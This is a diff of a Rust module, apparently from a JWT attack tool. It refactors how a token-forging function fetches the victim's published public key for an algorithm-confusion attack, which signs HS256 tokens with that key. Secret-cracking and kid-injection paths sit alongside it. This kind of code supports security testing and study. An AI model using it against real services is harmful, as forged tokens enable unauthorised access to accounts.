@@ -44,14 +44,14 @@ pub(super) enum Failure {
     NoKey,
 }
 
-/// Forges a token with these claims. `original` is the user's own, `path` where a token is tried out.
+/// Forges a token with these claims. `original` is the user's own, `public_key` where the victim publishes its key.
 pub(super) async fn forge(
     attacker: &Attacker,
     campaign: &str,
     attack: Attack,
     original: &str,
     claims: &Value,
-    path: &str,
+    public_key: &str,
 ) -> Result<Forged, Failure> {
     let hs256 = json!({ "alg": "HS256", "typ": "JWT" });
     let access_token = match attack {
@@ -67,7 +67,7 @@ pub(super) async fn forge(
             return Ok(Forged { access_token, guesses: cracked.tried });
         }
         Attack::AlgorithmConfusion => {
-            let pem = public_key(attacker, path).await?;
+            let pem = fetch_public_key(attacker, public_key).await?;
             jws::sign_hs256(pem.as_bytes(), &hs256, claims)
         }
         Attack::KidInjection => {
@@ -84,12 +84,10 @@ pub(super) async fn forge(
     Ok(Forged { access_token, guesses: 0 })
 }
 
-/// The key that the victim publishes, beside where its tokens are good.
-async fn public_key(attacker: &Attacker, path: &str) -> Result<String, Failure> {
-    let folder = path.rsplit_once('/').map_or("", |(folder, _)| folder);
-    let address = format!("{folder}/public-key.pem");
+/// The key that the victim publishes.
+async fn fetch_public_key(attacker: &Attacker, address: &str) -> Result<String, Failure> {
     let asked = attacker.client.get(format!("{}{address}", attacker.victim)).send().await;
     let answer = asked.and_then(reqwest::Response::error_for_status);
-    let missing = |_| Failure::NoPublicKey(address.clone());
+    let missing = |_| Failure::NoPublicKey(address.to_owned());
     answer.map_err(missing)?.text().await.map_err(missing)
 }
